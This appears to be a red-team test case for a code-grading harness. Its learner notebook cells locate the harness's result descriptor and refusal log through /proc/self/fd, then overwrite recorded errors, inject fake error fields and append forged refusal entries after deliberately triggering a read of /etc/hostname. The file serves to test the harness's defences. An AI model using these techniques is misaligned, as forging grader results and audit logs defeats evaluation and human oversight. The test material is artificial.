"""a06 descriptor_forge.

Route: the child's result memfd (where the harness writes the head frame and one frame per case)
is a descriptor of the learner's own process. Learner code finds it (readlink of its own fds or
by content), then rewrites frames already written: (a) every b"ValueError" the harness wrote for
an earlier case becomes a same-length run-time marker (in place, offsets unchanged); (b) in a
second exercise the head frame's "cell_errors": [] becomes ["ZQLEAK.."] (lengths re-prefixed,
file offset moved to the new end so the harness appends after it).
(c) in a third exercise, the audit hook's refusal log (another memfd of its own process): one
real refusal is triggered, its bytes read back (pread) to learn their shape, and copies appended
with the refusal's words replaced by the marker; the marker also goes to fds 1/2 (output).
Goal (1): learner-chosen text in feedback/report through forged result frames / refusal log.
Breached: marker in any output file.
"""
import pathlib
from _common import write_nb, LESSON_FILES, MARKER_CODE, find_marker

FORGE = MARKER_CODE + '''
import os as _os
def _result_fds():
    out = []
    for i in range(3, 64):
        try:
            st = _os.fstat(i)
        except OSError:
            continue
        name = ""
        try:
            name = _os.readlink("/proc/self/fd/%d" % i)
        except Exception:
            pass
        try:
            head = _os.pread(i, 4096, 0)
        except Exception:
            head = b""
        if "result" in name or (b'"found"' in head) or (b"cell_errors" in head):
            out.append(i)
    return out
def _tag4(x):
    return (_MK + format(int(abs(float(np.asarray(x).ravel()[0])) * 1e6) & 0xffff, "04x")).encode()
'''
CELL_G = FORGE + '''
def gelu_tanh(x):
    t = _tag4(x)
    for fd in _result_fds():
        try:
            data = _os.pread(fd, 1 << 20, 0)
            for word in (b"ValueError", b"TypeError\\x22", b"not_attempted"):
                i = data.find(word)
                while i >= 0:
                    rep = (t + b"_" * 16)[:len(word)]
                    _os.pwrite(fd, rep, i)
                    i = data.find(word, i + 1)
        except Exception:
            pass
    raise ValueError("x")
'''
CELL_M = '''
def mlp(x, w_fc, b_fc, w_proj, b_proj):
    t = _tag4(x)
    for fd in _result_fds():
        try:
            data = _os.pread(fd, 1 << 20, 0)
            end = _os.lseek(fd, 0, 1)
            n = int.from_bytes(data[:4], "big")
            hdr = data[4:4 + n]
            if b'"cell_errors": []' in hdr:
                new = hdr.replace(b'"cell_errors": []', b'"cell_errors": ["' + t + b'"]')
                rest = data[4 + n:end]
                blob = len(new).to_bytes(4, "big") + new + rest
                _os.pwrite(fd, blob, 0)
                _os.lseek(fd, len(blob), 0)
        except Exception:
            pass
    raise ValueError("y")
'''

CELL_B = '''
import os as _os
def _log_fds():
    out = []
    for i in range(3, 64):
        try:
            _os.fstat(i)
            name = _os.readlink("/proc/self/fd/%d" % i)
        except Exception:
            name = ""
        if "log" in name or "refus" in name:
            out.append(i)
    return out or [3]
def block(x, params, layer, n_head):
    t = _MK + format(int(abs(float(np.asarray(x).ravel()[0])) * 1e6), "x")
    try:
        open("/etc/hostname").read()
    except Exception:
        pass
    for fd in _log_fds():
        try:
            data = _os.pread(fd, 1 << 16, 0)
            line = data.splitlines()[0] if data else b"reading outside its workspace"
            forged = line
            for w in (b"reading outside its workspace", b"writing outside the scratch folder"):
                forged = forged.replace(w, t.encode())
            if forged == line:
                forged = t.encode()
            _os.write(fd, (forged + b"\\n") * 3 + t.encode() + b"\\n")
        except Exception:
            pass
    for fd in (1, 2):
        try:
            _os.write(fd, (t + "\\n").encode())
        except Exception:
            pass
    print(t)
    raise ValueError('z')
'''


def build(tmp: pathlib.Path) -> list[str]:
    write_nb(tmp / "eve" / LESSON_FILES["03_mlp_block"], "03_mlp_block", [CELL_G, CELL_M, CELL_B])
    return [str(tmp / "eve"), "--lessons", "03_mlp_block"]


def verdict(out: pathlib.Path, run: dict) -> tuple[bool, str]:
    m = find_marker(out)
    return (True, f"forged frame text in outputs: {m[:3]}") if m else (False, "forged frames/log not reflected")
